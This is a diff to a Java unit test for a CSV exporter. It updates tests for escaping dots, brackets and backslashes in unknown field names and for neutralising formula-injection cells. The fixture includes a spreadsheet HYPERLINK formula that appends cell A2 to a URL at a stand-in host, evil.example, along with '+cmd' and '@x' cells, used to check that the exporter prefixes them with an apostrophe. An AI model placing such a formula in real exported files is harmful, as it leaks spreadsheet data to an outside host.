@@ -232,15 +232,16 @@ class CsvTablesTest {
         JSON.writeValueAsString(hyperlink) + ":\"x\",\"+cmd\":\"-2+3\",\"@x\":{\"-y\":\"z\"}");
     String header = new String(table(r, "actors"), StandardCharsets.UTF_8).lines().findFirst().orElseThrow();
     assertThat(header).startsWith("id,kind,name,").endsWith(
-        ",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"click\"\")\",\"'+cmd\",\"'@x.-y\"");
+        ",\"'=HYPERLINK(\"\"http://evil\\.example/?\"\"&A2,\"\"click\"\")\",\"'+cmd\",\"'@x.-y\"");
     List<Map<String, String>> rows = read(table(r, "actors"));
-    assertThat(rows.get(0)).containsEntry("'" + hyperlink, "x").containsEntry("'+cmd", "'-2+3")
+    // The name's dot has a backslash before it, as in any unknown field's name.
+    assertThat(rows.get(0)).containsEntry("'" + hyperlink.replace(".", "\\."), "x").containsEntry("'+cmd", "'-2+3")
         .containsEntry("'@x.-y", "z");
     // Exact cells leave the header as the file names its fields, and the known columns never change.
     ByteArrayOutputStream exact = new ByteArrayOutputStream();
     Exporter.csvTable(r, "actors", exact, CsvOptions.defaults().withExactCells());
     String exactHeader = new String(exact.toByteArray(), StandardCharsets.UTF_8).lines().findFirst().orElseThrow();
-    assertThat(exactHeader).endsWith(",\"" + hyperlink.replace("\"", "\"\"") + "\",+cmd,@x.-y");
+    assertThat(exactHeader).endsWith(",\"" + hyperlink.replace("\"", "\"\"").replace(".", "\\.") + "\",+cmd,@x.-y");
     String bundled = new String(table(Reports.usPakistan2023(), "actors"), StandardCharsets.UTF_8).lines()
         .findFirst().orElseThrow();
     assertThat(header).startsWith(bundled + ",");
@@ -524,6 +525,20 @@ class CsvTablesTest {
             .isEqualTo(CsvTables.flatten(json, CsvOptions.defaults()));
       }
     }
+  }
+
+  @Test
+  void unknownFieldNamesThatLookLikePathsGetColumnsOfTheirOwn() throws Exception {
+    Report r = withUnknownFieldsOnFirstActor("\"a.b\":\"p\",\"a\":{\"b\":\"q\"},\"offices[0].title\":\"t\","
+        + "\"back\\\\slash\":\"s\",\"l[1]\":[{\"x]\":\"u\"}]");
+    Map<String, String> row = read(table(r, "actors")).get(0);
+    Map<String, String> bundled = read(table(Reports.usPakistan2023(), "actors")).get(0);
+    assertThat(row).containsEntry("a\\.b", "p").containsEntry("a.b", "q").containsEntry("offices\\[0\\]\\.title", "t")
+        .containsEntry("back\\\\slash", "s").containsEntry("l\\[1\\][0].x\\]", "u");
+    bundled.forEach((column, cell) -> assertThat(row).containsEntry(column, cell));
+    List<String> columns = header(r, "actors");
+    assertThat(columns.subList(columns.size() - 5, columns.size())).containsExactly("a\\.b", "a.b",
+        "offices\\[0\\]\\.title", "back\\\\slash", "l\\[1\\][0].x\\]");
   }
 
   @Test
